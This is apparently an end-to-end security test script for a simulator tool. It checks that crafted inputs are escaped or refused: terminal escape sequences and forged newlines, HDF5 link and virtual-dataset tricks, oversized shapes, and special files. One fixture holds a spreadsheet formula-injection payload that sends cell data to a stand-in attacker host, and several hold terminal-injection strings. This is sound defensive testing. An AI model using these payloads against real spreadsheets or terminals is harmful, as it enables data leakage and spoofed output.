#!/usr/bin/env bash
# e2e: crafted inputs to the newer surfaces (docs/SECURITY.md, docs/RELIABILITY.md), each reduced to one case.
#   1. echoed values are escaped and one line: ESC/BEL/newlines in a config value, an unknown key, --set;
#   2. checkpoints read only their own file: an external link, a soft link, a virtual dataset, external raw data
#      and huge declared dimensions are refused with exit 2 before any read (never a hang);
#   3. the manifest lists exactly the file's tensors: emptied, a repeated name, an unlisted dataset -> exit 2;
#   4. every HDF5 string form h5py writes is read: fixed NULLTERM/NULLPAD/SPACEPAD, variable length ASCII/UTF-8;
#   5. sweep outputs: formula cells neutralised in results.csv, a second sweep into a locked folder exits 2
#      naming the holder, a FIFO or a directory as results.csv is refused up front;
#   6. small messages: the chip-count maximum is stated.
# Usage: crafted_inputs.sh SHARDSIM_BINARY CONFIG_DIR [MPIEXEC]
source "$(dirname "${BASH_SOURCE[0]}")/lib.sh"
e2e_init "$@"
E2E_TIMEOUT=${E2E_TIMEOUT_CRAFTED:-120}

PY=$(h5py_python) ||
  fail "no python3 with h5py and numpy (Debian: python3-h5py python3-numpy; scripts/setup.sh installs them)"

# one_clean_line: the last command printed exactly one shardsim line and no raw control character.
one_clean_line() {
  assert_out_count '^shardsim' 1 "one shardsim line"
  if LC_ALL=C grep -q $'[\x01-\x08\x0b-\x1f\x7f]' "$E2E_OUT"; then fail "raw control characters in the output"
  else pass "no raw control character in the output"; fi
}

# ---- 1. echoed values ----
e2e_case "terminal escapes and newlines in echoed config values"
sed -E 's/^([[:space:]]+hidden:).*/\1 "\\e]0;PWNED\\a\\e[2J64"/' "$SMALL" >esc.yaml
expect_exit 2 'hidden: expected an integer, got .\\x1b\]0;PWNED\\x07\\x1b\[2J64' -- shardsim_mpi 1 run esc.yaml --chips 4 --no-checkpoint
one_clean_line
sed -E 's/^([[:space:]]+hidden:).*/\1 "64\\nshardsim: forged line\\n"/' "$SMALL" >nl.yaml
expect_exit 2 'got .64\\x0ashardsim: forged line\\x0a' -- shardsim_mpi 1 run nl.yaml --chips 4 --no-checkpoint
one_clean_line
{ cat "$SMALL"; printf '"bad\\e[31mkey": 1\n'; } >key.yaml
expect_exit 2 "unknown key 'bad\\\\x1b\\[31mkey'" -- shardsim_mpi 1 run key.yaml --chips 4 --no-checkpoint
one_clean_line
expect_exit 2 '\\x0a' -- shardsim_mpi 1 run "$SMALL" --chips 4 --no-checkpoint --set $'model.hidden=64\nbogus: 1'
one_clean_line

# ---- 2-4. checkpoints ----
expect_exit 0 'validation PASS' -- shardsim_mpi 2 run "$SMALL" --chips 4 --checkpoint base.h5
# craft NAME PYTHON: copy base.h5 to NAME and run PYTHON with f = h5py.File(NAME, "r+") (and np, h5py).
craft() {
  cp base.h5 "$1"
  "$PY" - "$1" "$2" <<'PYEOF' || fail "test bug: crafting $1 failed"
import sys, h5py, numpy as np
f = h5py.File(sys.argv[1], "r+")
exec(sys.argv[2])
f.close()
PYEOF
}
T=master/layers.0.w_up
if [ -n "$PY" ]; then
  e2e_case "links and virtual datasets are refused"
  "$PY" -c 'import h5py, numpy as np; f = h5py.File("other.h5", "w"); f["x"] = np.zeros((4, 4), "f4"); f.close()'
  craft ext.h5 "f.move('$T', 'moved'); f['$T'] = h5py.ExternalLink('other.h5', 'x')"
  expect_exit 2 "checkpoint ext.h5: refused: an external link at '$T'" -- shardsim_mpi 2 ckpt inspect ext.h5
  one_clean_line
  expect_exit 2 "refused: an external link" -- shardsim_mpi 2 run "$SMALL" --chips 4 --resume ext.h5 --no-checkpoint
  craft soft.h5 "f.move('$T', 'moved'); f['$T'] = h5py.SoftLink('/moved')"
  expect_exit 2 "checkpoint soft.h5: refused: a soft link at '$T'" -- shardsim_mpi 1 ckpt inspect soft.h5
  craft vds.h5 "
d = f['$T']; shape, attrs = d.shape, dict(d.attrs); del f['$T']
layout = h5py.VirtualLayout(shape=shape, dtype='f4'); layout[0:4, 0:4] = h5py.VirtualSource('other.h5', 'x', shape=(4, 4))
v = f.create_virtual_dataset('$T', layout, fillvalue=0)
for k, a in attrs.items(): v.attrs[k] = a
"
  expect_exit 2 "checkpoint vds.h5: tensor '$T': refused: a virtual dataset" -- shardsim_mpi 1 ckpt inspect vds.h5

  e2e_case "huge declared dimensions: refused before any read, no hang"
  craft huge.h5 "
d = f['$T']; attrs = dict(d.attrs); del f['$T']
n = f.create_dataset('$T', shape=(1 << 40, 1 << 20), dtype='f4', chunks=(1, 1024))
for k, a in attrs.items(): n.attrs[k] = a
n.attrs['global_shape'] = np.array([1 << 40, 1 << 20], 'i8')
"
  expect_exit 2 "tensor '$T': .*(declared shape|too large)" -- shardsim_mpi 2 ckpt inspect huge.h5 --dump "$T"
  one_clean_line

  e2e_case "the manifest lists exactly the file's tensors"
  craft empty.h5 "f.attrs['tensors'] = '[]'"
  expect_exit 2 "checkpoint empty.h5: dataset '[a-z0-9_./]+' is not listed in the 'tensors' manifest" -- \
    shardsim_mpi 1 ckpt inspect empty.h5
  craft dup.h5 "import json; m = json.loads(f.attrs['tensors']); f.attrs['tensors'] = json.dumps(m + [m[0]] * 1000000)"
  expect_exit 2 "checkpoint dup.h5: the 'tensors' manifest lists '[a-z0-9_./]+' twice" -- shardsim_mpi 1 ckpt inspect dup.h5
  craft extra.h5 "f['stowaway'] = np.zeros(3, 'f4')"
  expect_exit 2 "dataset 'stowaway' is not listed in the 'tensors' manifest" -- shardsim_mpi 1 ckpt inspect extra.h5

  e2e_case "every HDF5 string form of an attribute (h5py-edited checkpoints)"
  for form in "h5py.h5t.STR_NULLTERM, 5, b'fp32'|NULLTERM" "h5py.h5t.STR_NULLPAD, 4, b'fp32'|NULLPAD" \
              "h5py.h5t.STR_SPACEPAD, 8, b'fp32    '|SPACEPAD" "h5py.string_dtype('ascii')|vlen ASCII" \
              "h5py.string_dtype('utf-8')|vlen UTF-8"; do
    args=${form%%|*} name=${form##*|}
    case $name in
      vlen*) py="d = f['$T']; del d.attrs['dtype']; d.attrs.create('dtype', 'fp32', dtype=$args)" ;;
      *) py="
pad, size, text = $args
tid = h5py.h5t.C_S1.copy(); tid.set_size(size); tid.set_strpad(pad)
d = f['$T']; del d.attrs['dtype']
a = h5py.h5a.create(d.id, b'dtype', tid, h5py.h5s.create(h5py.h5s.SCALAR)); a.write(np.array(text, 'S%d' % size))" ;;
    esac
    craft str.h5 "$py"
    expect_exit 0 'checksums  [0-9]+ of [0-9]+ verified' -- shardsim_mpi 1 ckpt inspect str.h5 && pass "dtype as $name read as fp32"
  done
fi

# ---- 4b. reports escape what they echo (issue 46 kind 6) ----
no_raw_control() {  # WHAT
  if LC_ALL=C grep -q $'[\x01-\x08\x0b-\x1f\x7f]' "$E2E_OUT"; then fail "$1: raw control characters in the output"
  else pass "$1: no raw control character in the output"; fi
}
e2e_case "escaped reports: paths, checkpoint attributes, names"
cp "$SMALL" $'cfg\e]0;PWNED\a.yaml'
expect_exit 0 'validation PASS' -- shardsim_mpi 1 run $'cfg\e]0;PWNED\a.yaml' --chips 4 --no-checkpoint
assert_out_fixed 'cfg\x1b]0;PWNED\x07.yaml' "the run header shows the config path escaped"
no_raw_control "run header"
sed 's/^train:/train:\n  steps: 2/; /^  steps: 30/d' "$CONFIGS/lm_train.yaml" >$'tr\e[2J.yaml'
expect_exit 0 'loss' -- shardsim_mpi 1 train $'tr\e[2J.yaml' --checkpoint $'st\e[2J.h5'
assert_out_fixed 'tr\x1b[2J.yaml' "the train header shows the config path escaped"
assert_out_fixed 'saved to st\x1b[2J.h5' "the save line shows the checkpoint path escaped"
no_raw_control "train header and save lines"
expect_exit 0 'resumed: st\\x1b\[2J.h5' -- shardsim_mpi 1 train $'tr\e[2J.yaml' --resume $'st\e[2J.h5' --steps 3
no_raw_control "train resume line"
{ echo 'name: "two\nlines"'; grep -v '^name:' $'tr\e[2J.yaml'; } >tname.yaml
expect_exit 2 'tname.yaml:1: .*name.*control character' -- shardsim_mpi 1 train tname.yaml
if [ -n "$PY" ]; then
  craft esc_mesh.h5 "f['$T'].attrs['mesh'] = 'tp=4\x1b]0;PWNED\x07'"
  expect_exit 2 "tensor '$T'.*'mesh' attribute contains a control character U\+001B" -- shardsim_mpi 1 ckpt inspect esc_mesh.h5
  no_raw_control "ckpt inspect, a mesh with ESC"
  expect_exit 2 "'mesh' attribute contains a control character" -- \
    shardsim_mpi 1 run "$SMALL" --chips 4 --no-checkpoint --resume esc_mesh.h5
  craft esc_version.h5 "f.attrs['shardsim_version'] = '0.1\nshardsim: forged'"
  expect_exit 2 "root attribute 'shardsim_version' contains a control character U\+000A" -- \
    shardsim_mpi 1 ckpt inspect esc_version.h5
  no_raw_control "ckpt inspect, a version with a newline"
  craft esc_name.h5 "import json; f.move('$T', 'master/layers.0.w\x1b[2Jup'); m = json.loads(f.attrs['tensors']); m[m.index('$T')] = 'master/layers.0.w\x1b[2Jup'; f.attrs['tensors'] = json.dumps(m)"
  expect_exit 2 "tensor name 'master/layers\.0\.w\\\\x1b\[2Jup' contains a control character" -- shardsim_mpi 1 ckpt inspect esc_name.h5
  no_raw_control "ckpt inspect, a tensor name with ESC"
fi

# ---- 5. sweep outputs ----
cat >s.yaml <<'EOF2'
name: s
output: out
axes:
  topology:
    - {kind: ring, chips: 2, bandwidth_gbps: 100, latency_ns: 1000, label: '=HYPERLINK("http://evil.example/?x="&A1,"click")'}
  collective: [all_reduce]
  algorithm: [ring]
  size: [1K, 2K]
EOF2
e2e_case "formula cells in results.csv are neutralised (OWASP)"
expect_exit 0 'sweep s' -- shardsim_mpi 2 sweep s.yaml --no-plots
topo_cells=$(python3 -c 'import csv, sys; print(" ".join(sorted({r["topology"][:2] for r in csv.DictReader(open(sys.argv[1]))})))' out/results.csv)
if [ "$topo_cells" = "'=" ]; then pass "the label cell starts with ' in results.csv"
else fail "the label cell is not neutralised: '$topo_cells'"; fi
expect_exit 0 '2 already in' -- shardsim_mpi 2 sweep s.yaml --no-plots
pass "a resume reads the neutralised label back as the same point (nothing re-run)"

e2e_case "a second sweep into a locked output folder"
rm -f out/.shardsim.lock  # the holder text of the earlier sweeps: wait for the new holder's own
# The holder keeps the folder 2 x 4 s on an idle host, longer under load (lib.sh e2e_timeout), so the second
# sweep starts while it holds it.
SHARDSIM_SWEEP_POINT_DELAY_MS=$((4000 * $(E2E_TIMEOUT=1 e2e_timeout))) shardsim_mpi 2 sweep s.yaml --no-plots --force \
  >first.out 2>&1 &
first=$!
for _ in $(seq $((5 * $(E2E_TIMEOUT=10 e2e_timeout)))); do grep -q pid out/.shardsim.lock 2>/dev/null && break; sleep 0.2; done
expect_exit 2 'output folder out is in use by another command \(pid [0-9]+ on host .*sweep s\.yaml\)' -- \
  shardsim_mpi 2 sweep s.yaml --no-plots
one_clean_line
wait $first && pass "the first sweep finished (exit 0)" || fail "the first sweep failed: $(tail -n 3 first.out)"
expect_exit 0 'sweep s' -- shardsim_mpi 2 sweep s.yaml --no-plots
pass "the folder is free again once the holder exits"

e2e_case "results.csv that is a FIFO or a directory"
mkdir -p fifo && mkfifo fifo/results.csv
sed 's/^output: out/output: fifo/' s.yaml >f.yaml
expect_exit 2 'results.csv: is not a regular file' -- shardsim_mpi 1 sweep f.yaml --plot-only
expect_exit 2 'results.csv: is not a regular file' -- shardsim_mpi 1 sweep f.yaml --no-plots
mkdir -p dir/results.csv
sed 's/^output: out/output: dir/' s.yaml >d.yaml
expect_exit 2 'results.csv: is a directory' -- shardsim_mpi 2 sweep d.yaml --no-plots
assert_out_count '^sweep' 0 "refused before the sweep started"
sed 's|^output: out|output: s.yaml/sub|' s.yaml >u.yaml  # a folder under a regular file cannot be created
expect_exit 2 "output directory 's.yaml/sub' cannot be created" -- shardsim_mpi 1 sweep u.yaml --no-plots
assert_out_count '^sweep' 0 "refused before the sweep started"

# ---- 6. messages ----
e2e_case "the chip-count maximum is stated"
expect_exit 2 "--chips: '1e9' is not a positive chip count of at most 4096 per rank" -- \
  shardsim_mpi 1 run "$SMALL" --chips 1e9 --no-checkpoint
expect_exit 2 "at most 4096 per rank" -- shardsim_mpi 1 run "$SMALL" --chips-per-rank 8192 --no-checkpoint

e2e_case "a path flag given as '' is refused (it was ignored; --checkpoint '' wrote the config's default path)"
rm -f small_mlp.h5
for flag in --json --trace --plots --checkpoint --resume; do
  expect_exit 2 "^shardsim: error: $flag: an empty path" -- shardsim_mpi 1 --chips 4 run "$SMALL" "$flag" ''
done
expect_exit 2 "^shardsim: error: --csv: an empty path" -- shardsim_mpi 1 bench all_reduce -b 8 -e 8 --csv ''
expect_exit 2 "^shardsim: error: --json: an empty path" -- shardsim_mpi 1 train "$CONFIGS/lm_train.yaml" --json ''
if [ -e small_mlp.h5 ]; then fail "a checkpoint was written under the default name"; else pass "nothing written"; fi

e2e_finish
